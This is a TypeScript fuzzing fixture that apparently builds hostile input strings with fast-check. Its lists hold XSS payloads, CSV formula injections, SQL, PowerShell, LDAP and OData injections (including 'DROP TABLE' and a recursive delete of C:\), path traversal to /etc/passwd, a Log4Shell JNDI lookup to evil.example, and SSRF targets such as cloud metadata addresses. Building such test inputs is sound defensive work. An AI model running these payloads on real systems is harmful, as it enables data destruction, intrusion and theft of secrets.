/** What nobody means well with, by what it attacks. Small pieces and what puts them together: long ones are made when needed. */
import fc from 'fast-check';

/** Found again in whatever comes of it. */
export const MARK = 'zqx';

export const MARKDOWN = [
  `[${MARK}](https://evil.example)`,
  `[${MARK}](javascript:alert(1))`,
  `![${MARK}](https://evil.example/pixel.png)`,
  `[${MARK}](data:text/html,x)`,
  `**${MARK}** _${MARK}_ ~~${MARK}~~ \`${MARK}\``,
  `<https://evil.example/${MARK}>`,
  `<b>${MARK}</b><img src=x onerror=alert(1)>`,
  `<at>${MARK}</at>`,
  `&lt;at&gt;${MARK}&lt;/at&gt;`,
  `{{DATE(2026-01-01T00:00:00Z, SHORT)}} ${MARK}`,
  '${string(' + MARK + ')}',
  `# ${MARK}`,
  `- ${MARK}`,
  `1. ${MARK}`,
  `> ${MARK}`,
  `https://evil.example/${MARK}`,
  `www.evil.example/${MARK}`,
  `| ${MARK} | ${MARK} |\n| --- | --- |`,
  `[${MARK}][1]\n\n[1]: https://evil.example`,
  `\`\`\`\n${MARK}\n\`\`\``,
  `$t(help.title) {{said}} ${MARK}`,
];

/** Direction marks, what is drawn as nothing, tags, fillers. */
export const UNSEEN = [
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  '\u{e0041}',
  '\u3164',
  '\u2800',
  '\ufe0f',
  '\u034f',
  '\u2028',
  '\u2029',
  '\ufff9',
  '\u0085',
  '\u0007',
];

/** What JSON carries and PostgreSQL keeps neither in text nor in jsonb. */
export const UNKEEPABLE = ['\0', '\ud83d', '\udc00', '&#0;', '&#xD800;', String.raw`\u0000`, '\\\\u0000'];

export const FORMULAS = ['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', 'x;=1+1', 'x\t@y', 'x\n=1', 'x; "=1'];

/** What every object of JavaScript has. */
export const INHERITED = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'];

export const NUMBERS = [
  '1e400',
  '-0',
  '9007199254740993',
  '0x10',
  '1_000',
  '٣',
  'NaN',
  'Infinity',
  '2147483648',
];

export const DATES = ['+275760-09-13', '9999-12-31', '0000-00-00', '2026-02-30', '-000001-01-01'];

/** Shell, SQL, PowerShell, LDAP and OData. */
export const INJECTIONS = [
  "'; DROP TABLE changes; --",
  '$(Get-Process)',
  "x'; Remove-Item C:\\ -Recurse; '",
  '`nInvoke-Expression',
  '\u2018; Stop-Computer; \u2019',
  "') or accountEnabled eq true or ('",
  '*)(objectClass=*',
  '%0d%0aSet-Cookie:x',
  '../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
];

export const HOSTS = [
  '127.0.0.1',
  'localhost',
  '[::1]',
  '[::ffff:127.0.0.1]',
  '169.254.169.254',
  '0x7f000001',
  '2130706433',
  '0177.0.0.1',
  'metadata.google.internal',
  'user:pw@evil.example',
  'evil.example:99999',
  '10.0.0.1',
  'a'.repeat(300),
];

const PIECES = [
  ...[...MARKDOWN, ...UNSEEN, ...UNKEEPABLE, ...FORMULAS, ...INHERITED, ...NUMBERS, ...DATES],
  ...[...INJECTIONS, ...HOSTS],
  ...[
    'site:',
    '-',
    '!',
    '"',
    '|',
    '*',
    ':',
    '<',
    '>=',
    ',',
    ';',
    '#',
    '@',
    '%',
    '\n',
    '\t',
    ' ',
    '00:04:f2:',
  ],
];

/** A few pieces in a row, and now and then any text at all. */
export const hostileText = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.array(fc.constantFrom(...PIECES), { maxLength: 6 }).map((some) => some.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
);

/** One long run of very little. */
export const longText = fc
  .tuple(
    fc.constantFrom('a', ' ', '"', '<at>', '&', '(', '[', '-', '|', 'a ', ':', '\n', 'é', '\u202e'),
    fc.nat(3),
  )
  .map(([piece, size]) => piece.repeat(10 ** (size + 1) * 3));

/** A value nested as deep as that, without a stack that would be as deep. */
export function nested(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array'
    ? '['.repeat(depth) + ']'.repeat(depth)
    : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}
